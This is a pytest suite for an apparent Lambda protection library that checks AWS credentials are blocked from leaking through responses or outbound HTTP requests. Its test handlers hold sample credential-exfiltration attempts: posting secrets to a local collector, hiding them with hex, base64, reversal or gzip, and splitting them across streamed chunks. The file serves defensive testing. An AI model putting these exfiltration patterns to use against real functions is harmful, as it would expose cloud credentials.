"""The function's own AWS credentials never leave: not in a response, not in an outbound request."""
from __future__ import annotations

import base64
import http.client
import json
import os
import socket
import urllib.request
from collections.abc import Iterator
from urllib.parse import quote, urlencode

import pytest
import requests

from app_protect_lambda import RequestBlocked, protect
from app_protect_lambda.testing import LambdaContext, apigw_v1_event, apigw_v2_event, sqs_event

from .network_support import TIMEOUT, LocalServer, install_resolver


@pytest.fixture
def collector() -> Iterator[LocalServer]:
    with LocalServer(body=b"thanks") as running:
        yield running


@pytest.fixture(autouse=True)
def resolver(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    return install_resolver(monkeypatch, {})


def secret_values() -> list[str]:
    values = [os.environ["AWS_SECRET_ACCESS_KEY"], os.environ["AWS_SESSION_TOKEN"]]
    return values + [quote(v, safe="") for v in values]


def assert_no_secret_in(capsys_text: str) -> None:
    for value in secret_values():
        assert value not in capsys_text


def env_echo(mode: str = "block"):
    @protect(mode=mode)
    def handler(event, context):
        return {"statusCode": 200, "headers": {"Content-Type": "application/json"},
                "body": json.dumps(dict(os.environ), indent=1)}
    return handler


def test_echoing_the_environment_is_blocked_and_the_record_holds_no_secret(records, capsys) -> None:
    reply = env_echo()(apigw_v1_event(path="/debug"), LambdaContext())
    assert reply["statusCode"] == 403 and "fakeSecret" not in reply["body"]
    [record] = records.detections()
    assert record["protection"] == "credential_exfiltration" and record["action"] == "blocked"
    assert "AWS_SECRET_ACCESS_KEY" in record["evidence"] and "AWS_SESSION_TOKEN" in record["evidence"]
    assert_no_secret_in(json.dumps(records.all()))


def test_report_mode_leaves_the_response_and_still_never_logs_the_secret(records, capsys) -> None:
    reply = env_echo("report")(apigw_v1_event(), LambdaContext())
    assert reply["statusCode"] == 200 and os.environ["AWS_SECRET_ACCESS_KEY"] in reply["body"]
    [record] = records.detections()
    assert record["action"] == "reported"
    assert_no_secret_in(json.dumps(records.all()))


def test_off_mode_records_nothing(records) -> None:
    @protect(policy={"mode": "block", "protections": {"credential_exfiltration": "off"}})
    def handler(event, context):
        return {"statusCode": 200, "body": os.environ["AWS_SECRET_ACCESS_KEY"]}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert records.detections() == []


@pytest.mark.parametrize("response", [
    lambda: {"statusCode": 200, "body": base64.b64encode(f"k={os.environ['AWS_SECRET_ACCESS_KEY']}".encode()).decode(),
             "isBase64Encoded": True},
    lambda: {"statusCode": 200, "headers": {"X-Debug-Token": os.environ["AWS_SESSION_TOKEN"]}, "body": "ok"},
    lambda: {"statusCode": 200, "multiValueHeaders": {"X-Debug": ["a", os.environ["AWS_SECRET_ACCESS_KEY"]]}},
    lambda: {"statusCode": 200, "cookies": [f"s={quote(os.environ['AWS_SECRET_ACCESS_KEY'], safe='')}"]},
    lambda: {"statusCode": 302, "headers": {"Location": "/x?" + urlencode({"t": os.environ["AWS_SESSION_TOKEN"]})}},
    lambda: {"statusCode": 200, "body": {"nested": {"key": os.environ["AWS_SECRET_ACCESS_KEY"]}}},
    lambda: {"statusCode": 200, "body": f"{os.environ['AWS_ACCESS_KEY_ID']}\n{os.environ['AWS_SESSION_TOKEN']}"},
    lambda: json.dumps({"creds": os.environ["AWS_SECRET_ACCESS_KEY"]}),
    lambda: {"message": "not an HTTP shape", "env": dict(os.environ)},
])
def test_every_part_of_the_response(response, records) -> None:
    @protect(mode="block")
    def handler(event, context):
        return response()

    reply = handler(apigw_v2_event(), LambdaContext())
    assert reply["statusCode"] == 403
    assert len(records.detections()) == 1


@pytest.mark.parametrize("body", [
    "AWS_SESSION_TOKEN",
    json.dumps({"variables": ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ACCESS_KEY_ID"]}),
    "環境変数 AWS_SESSION_TOKEN は設定済みです。",
    json.dumps({"access_key_id": "ASIAFAKEEXAMPLE00001"}),
    "x" * 1024 * 1024,
])
def test_benign_responses_pass_unchanged(body: str, records) -> None:
    @protect(mode="block")
    def handler(event, context):
        return {"statusCode": 200, "headers": {"Content-Type": "text/plain"}, "body": body}

    reply = handler(apigw_v1_event(), LambdaContext())
    assert reply == {"statusCode": 200, "headers": {"Content-Type": "text/plain"}, "body": body}
    assert records.detections() == []


def test_presigned_url_response_passes(records) -> None:
    token = os.environ["AWS_SESSION_TOKEN"]
    url = (f"https://bucket.s3.amazonaws.com/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256"
           f"&X-Amz-Credential={os.environ['AWS_ACCESS_KEY_ID']}%2F20260101%2Fus-east-1%2Fs3%2Faws4_request"
           f"&X-Amz-Security-Token={quote(token, safe='')}&X-Amz-Signature=0123abcd")

    @protect(mode="block")
    def handler(event, context):
        return {"statusCode": 302, "headers": {"Location": url}}

    assert handler(apigw_v1_event(), LambdaContext()) == {"statusCode": 302, "headers": {"Location": url}}
    assert records.detections() == []


def test_non_http_invocations_raise_request_blocked(records) -> None:
    @protect(mode="block")
    def handler(event, context):
        return {"processed": 1, "debug": dict(os.environ)}

    with pytest.raises(RequestBlocked) as raised:
        handler(sqs_event({"id": 1}), LambdaContext())
    assert "credential_exfiltration" in str(raised.value)
    assert_no_secret_in(str(raised.value))


# ---------------------------------------------------------------- outbound

def test_posting_the_secret_to_a_collector_is_blocked_before_a_byte_is_sent(collector: LocalServer,
                                                                           records) -> None:
    @protect(mode="block")
    def handler(event, context):
        requests.post(f"{collector.url}/collect", data={"k": os.environ["AWS_SECRET_ACCESS_KEY"]}, timeout=TIMEOUT)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    assert collector.requests == []  # connected, but no request was ever sent
    [record] = records.detections()
    assert record["rule"] == "credential_exfiltration.outbound"
    assert record["sink"]["name"] == "urllib3.connection.HTTPConnection.request"
    assert_no_secret_in(json.dumps(records.all()))


@pytest.mark.parametrize("how", ["query", "header", "body"])
def test_outbound_request_line_headers_and_body(how: str, collector: LocalServer, records) -> None:
    token = os.environ["AWS_SESSION_TOKEN"]

    @protect(mode="block")
    def handler(event, context):
        if how == "query":
            urllib.request.urlopen(f"{collector.url}/c?{urlencode({'t': token})}", timeout=TIMEOUT).read()
        else:
            connection = http.client.HTTPConnection("127.0.0.1", collector.port, timeout=TIMEOUT)
            headers = {"X-Token": token} if how == "header" else {}
            connection.request("POST", "/c", body=token.encode() if how == "body" else b"{}", headers=headers)
            connection.getresponse().read()
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    assert collector.requests == []
    assert len(records.detections()) == 1


def test_hand_built_and_streamed_requests_are_judged_as_they_are_sent(collector: LocalServer, records) -> None:
    secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()

    @protect(mode="block")
    def handler(event, context):
        if event["queryStringParameters"]["how"] == "hand-built":
            connection = http.client.HTTPConnection("127.0.0.1", collector.port, timeout=TIMEOUT)
            connection.putrequest("POST", "/c")
            connection.putheader("Content-Length", str(len(secret)))
            connection.endheaders()
            connection.send(secret)
        else:
            requests.post(f"{collector.url}/c", data=iter([b"chunk-1,", secret]), timeout=TIMEOUT)
        return {"statusCode": 200}

    for how in ("hand-built", "streamed"):
        assert handler(apigw_v1_event(query={"how": how}), LambdaContext())["statusCode"] == 403
    assert all(request["body"] in (b"", b"chunk-1,") for request in collector.requests)  # never the secret
    assert [r["sink"]["name"] for r in records.detections()] == ["http.client.HTTPConnection.send"] * 2


def test_sigv4_signed_request_to_a_local_endpoint_passes(collector: LocalServer, records) -> None:
    @protect(mode="block")
    def handler(event, context):
        headers = {"X-Amz-Security-Token": os.environ["AWS_SESSION_TOKEN"],
                   "Authorization": f"AWS4-HMAC-SHA256 Credential={os.environ['AWS_ACCESS_KEY_ID']}/20260101/"
                                    "us-east-1/sqs/aws4_request, SignedHeaders=host, Signature=abc"}
        return {"statusCode": 200, "body": requests.post(f"{collector.url}/", data=b"Action=ListQueues",
                                                          headers=headers, timeout=TIMEOUT).text}

    assert handler(apigw_v1_event(), LambdaContext()) == {"statusCode": 200, "body": "thanks"}
    assert len(collector.requests) == 1 and records.detections() == []


def test_ordinary_outbound_requests_pass(collector: LocalServer, records) -> None:
    @protect(mode="block")
    def handler(event, context):
        body = json.dumps({"note": "AWS_SESSION_TOKEN を送らない", "size": "x" * 100_000}).encode()
        return {"statusCode": 200, "body": requests.post(f"{collector.url}/ok", data=body, timeout=TIMEOUT).text}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert len(collector.requests) == 1 and records.detections() == []


# ---------------------------------------------------------------- the local secrets extension

@pytest.mark.parametrize("client", ["requests", "urllib", "http.client"])
def test_calls_to_the_parameters_and_secrets_extension_pass(client: str, collector: LocalServer, records,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """The extension authenticates the function by its session token: that header, to that port, is its use."""
    monkeypatch.setenv("PARAMETERS_SECRETS_EXTENSION_HTTP_PORT", str(collector.port))
    token = os.environ["AWS_SESSION_TOKEN"]
    headers = {"X-Aws-Parameters-Secrets-Token": token}
    url = f"http://localhost:{collector.port}/secretsmanager/get?secretId=db-password"

    @protect(mode="block")
    def handler(event, context):
        if client == "requests":
            body = requests.get(url, headers=headers, timeout=TIMEOUT).content
        elif client == "urllib":
            body = urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=TIMEOUT).read()
        else:
            connection = http.client.HTTPConnection("127.0.0.1", collector.port, timeout=TIMEOUT)
            connection.request("GET", "/systemsmanager/parameters/get?name=%2Fapp%2Fflag", headers=headers)
            body = connection.getresponse().read()
        return {"statusCode": 200, "body": body.decode()}

    assert handler(apigw_v1_event(), LambdaContext()) == {"statusCode": 200, "body": "thanks"}
    [request] = collector.requests
    assert request["headers"]["X-Aws-Parameters-Secrets-Token"] == token
    assert records.detections() == []


@pytest.mark.parametrize("how", ["other port", "other header", "in the path", "secret key"])
def test_the_extension_header_elsewhere_is_still_exfiltration(how: str, collector: LocalServer, records,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PARAMETERS_SECRETS_EXTENSION_HTTP_PORT", str(collector.port + 1 if how == "other port"
                                                                      else collector.port))
    token = os.environ["AWS_SESSION_TOKEN"]
    value = os.environ["AWS_SECRET_ACCESS_KEY"] if how == "secret key" else token
    name = "X-Debug" if how == "other header" else "X-Aws-Parameters-Secrets-Token"
    query = urlencode({"t": token}) if how == "in the path" else "secretId=db"

    @protect(mode="block")
    def handler(event, context):
        requests.get(f"http://127.0.0.1:{collector.port}/secretsmanager/get?{query}", headers={name: value},
                     timeout=TIMEOUT)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    assert collector.requests == []
    [record] = records.detections()
    assert record["rule"] == "credential_exfiltration.outbound"
    assert_no_secret_in(json.dumps(records.all()))


# ---------------------------------------------------------------- encodings

def _encode(how: str, value: str) -> str:
    if how == "hex":
        return value.encode().hex()
    if how == "reversed":
        return value[::-1]
    if how == "base64 blob":
        return base64.b64encode(json.dumps({"v": 1, "creds": value}).encode()).decode()
    return base64.urlsafe_b64encode(value.encode()).decode()


ENCODINGS = ["hex", "reversed", "base64 blob", "base64url"]


@pytest.mark.parametrize("how", ENCODINGS)
def test_encoded_credentials_in_the_response_are_blocked(how: str, records) -> None:
    @protect(mode="block")
    def handler(event, context):
        return {"statusCode": 200, "body": json.dumps({"debug": _encode(how, os.environ["AWS_SECRET_ACCESS_KEY"])})}

    reply = handler(apigw_v1_event(), LambdaContext())
    assert reply["statusCode"] == 403
    assert _encode(how, os.environ["AWS_SECRET_ACCESS_KEY"]) not in json.dumps(reply)
    [record] = records.detections()
    assert record["rule"] == "credential_exfiltration.response"
    assert_no_secret_in(json.dumps(records.all()))


@pytest.mark.parametrize("how", ENCODINGS)
def test_encoded_credentials_sent_out_are_blocked_before_a_byte_is_sent(how: str, collector: LocalServer,
                                                                       records) -> None:
    @protect(mode="block")
    def handler(event, context):
        requests.post(f"{collector.url}/c", data=_encode(how, os.environ["AWS_SESSION_TOKEN"]), timeout=TIMEOUT)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    assert collector.requests == []
    [record] = records.detections()
    assert record["rule"] == "credential_exfiltration.outbound"


def test_a_presigned_post_returned_passes_unchanged(records) -> None:
    token = os.environ["AWS_SESSION_TOKEN"]
    policy = {"expiration": "2026-12-02T12:00:00Z",
              "conditions": [{"bucket": "uploads"}, {"x-amz-security-token": token}]}
    fields = {"key": "user/a.png", "x-amz-security-token": token,
              "policy": base64.b64encode(json.dumps(policy).encode()).decode(), "x-amz-signature": "00ff" * 16}
    answer = {"statusCode": 200, "body": json.dumps({"url": "https://uploads.s3.amazonaws.com/", "fields": fields})}

    @protect(mode="block")
    def handler(event, context):
        return answer

    assert handler(apigw_v1_event(), LambdaContext()) == answer
    assert records.detections() == []


def _presigned_post_fields() -> dict:
    token = os.environ["AWS_SESSION_TOKEN"]
    policy = {"conditions": [{"bucket": "uploads"}, {"x-amz-security-token": token}]}
    return {"url": "https://uploads.s3.amazonaws.com/", "fields": {
        "key": "user/a.png", "x-amz-algorithm": "AWS4-HMAC-SHA256", "x-amz-security-token": token,
        "policy": base64.b64encode(json.dumps(policy).encode()).decode(), "x-amz-signature": "00ff" * 16}}


@pytest.mark.parametrize("shape", ["direct invocation", "appsync", "function url without statusCode",
                                   "api gateway body as a dict"])
def test_presigned_post_fields_returned_as_a_dict_pass(shape: str, records) -> None:
    answer: dict = {"upload": _presigned_post_fields()}
    if shape == "appsync":
        answer = {"data": {"createUpload": _presigned_post_fields()}}
    elif shape == "api gateway body as a dict":
        answer = {"statusCode": 200, "body": _presigned_post_fields()}

    @protect(mode="block")
    def handler(event, context):
        return answer

    event = apigw_v2_event() if shape == "function url without statusCode" else {"upload": "a.png"}
    assert handler(event, LambdaContext()) == answer
    assert records.detections() == []


@pytest.mark.parametrize("answer", [
    lambda: {"upload": {"fields": {"token": os.environ["AWS_SESSION_TOKEN"]}}},
    lambda: {"upload": {"fields": {"x-amz-security-token": os.environ["AWS_SESSION_TOKEN"],
                                   "debug": os.environ["AWS_SECRET_ACCESS_KEY"]}}},
    lambda: {"x-amz-security-token": [os.environ["AWS_SESSION_TOKEN"]]},
])
def test_the_token_in_a_returned_dict_outside_sigv4_is_blocked(answer, records) -> None:
    @protect(mode="block")
    def handler(event, context):
        return answer()

    with pytest.raises(RequestBlocked):
        handler({"upload": "a.png"}, LambdaContext())
    assert [r["rule"] for r in records.detections()] == ["credential_exfiltration.response"]


def test_a_gzip_compressed_request_body_is_judged_decompressed(collector: LocalServer, records) -> None:
    import gzip

    @protect(mode="block")
    def handler(event, context):
        body = gzip.compress(json.dumps({"env": dict(os.environ)}).encode())
        requests.post(f"{collector.url}/c", data=body, headers={"Content-Encoding": "gzip"}, timeout=TIMEOUT)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    assert collector.requests == []
    assert [r["rule"] for r in records.detections()] == ["credential_exfiltration.outbound"]


def test_a_gzip_compressed_base64_response_is_judged_decompressed(records) -> None:
    import gzip

    @protect(mode="block")
    def handler(event, context):
        body = gzip.compress(json.dumps({"debug": os.environ["AWS_SECRET_ACCESS_KEY"]}).encode())
        return {"statusCode": 200, "headers": {"Content-Encoding": "gzip"}, "isBase64Encoded": True,
                "body": base64.b64encode(body).decode()}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    benign = {"statusCode": 200, "headers": {"Content-Encoding": "gzip"}, "isBase64Encoded": True,
              "body": base64.b64encode(gzip.compress(b'{"ok": true}')).decode()}

    @protect(mode="block")
    def benign_handler(event, context):
        return benign

    assert benign_handler(apigw_v1_event(), LambdaContext()) == benign
    assert len(records.detections()) == 1


@pytest.fixture
def silent_listener() -> Iterator[socket.socket]:
    """A server that accepts connections and never answers: every byte sent waits in its buffer."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        yield listening


def _received(listening: socket.socket) -> bytes:
    listening.settimeout(TIMEOUT)
    connection, _ = listening.accept()
    with connection:
        connection.settimeout(0.3)
        data = b""
        try:
            while chunk := connection.recv(65536):
                data += chunk
        except TimeoutError:
            pass
    return data


@pytest.mark.parametrize("pieces", [2, 3, 7])
@pytest.mark.parametrize("client", ["requests", "http.client"])
def test_a_credential_split_across_streamed_chunks_is_blocked(pieces: int, client: str,
                                                              silent_listener: socket.socket, records) -> None:
    secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
    size = -(-len(secret) // pieces)
    chunks = [b'{"note": "hello", "k": "'] + [secret[i:i + size] for i in range(0, len(secret), size)] + [b'"}']
    port = silent_listener.getsockname()[1]

    @protect(mode="block")
    def handler(event, context):
        if client == "requests":
            requests.post(f"http://127.0.0.1:{port}/c", data=iter(chunks), timeout=TIMEOUT)
        else:
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT)
            connection.request("POST", "/c", body=iter(chunks), encode_chunked=True)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    sent = _received(silent_listener)
    assert secret[-size:] not in sent  # the piece that completes it never left
    assert [r["rule"] for r in records.detections()] == ["credential_exfiltration.outbound"]


def test_benign_streamed_chunks_pass(collector: LocalServer, records) -> None:
    chunks = [b"x" * 5000, b"chunk-2,", os.environ["AWS_ACCESS_KEY_ID"].encode(), b"\r\n3\r\n", b"end"]

    @protect(mode="block")
    def handler(event, context):
        return {"statusCode": requests.post(f"{collector.url}/c", data=iter(chunks), timeout=TIMEOUT).status_code}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert len(collector.requests) == 1 and records.detections() == []


@pytest.mark.parametrize("depth", [17, 40, 500])
def test_a_credential_nested_deep_in_a_returned_object_is_blocked(depth: int, records) -> None:
    def nested() -> dict:
        value: object = {"k": os.environ["AWS_SECRET_ACCESS_KEY"]}
        for level in range(depth):
            value = {"level": level, "next": value} if level % 2 else [value]
        return {"statusCode": 200, "body": "ok", "headers": {"X-Trace": "1"}, "debug": value}

    @protect(mode="block")
    def handler(event, context):
        return nested()

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    with pytest.raises(RequestBlocked):
        protect(mode="block")(lambda event, context: nested()["debug"])({"job": 1}, LambdaContext())
    assert len(records.detections()) == 2


def test_a_self_referencing_object_is_read_in_bounded_time(records) -> None:
    loop: list = ["ok"]
    loop.append(loop)

    @protect(mode="block")
    def handler(event, context):
        return {"result": loop}

    import time

    started = time.process_time()  # CPU time, which a loaded machine does not stretch: ~10 ms, 2.9 s before
    assert handler({"job": 1}, LambdaContext()) == {"result": loop}  # the walk read each container once
    assert time.process_time() - started < 1
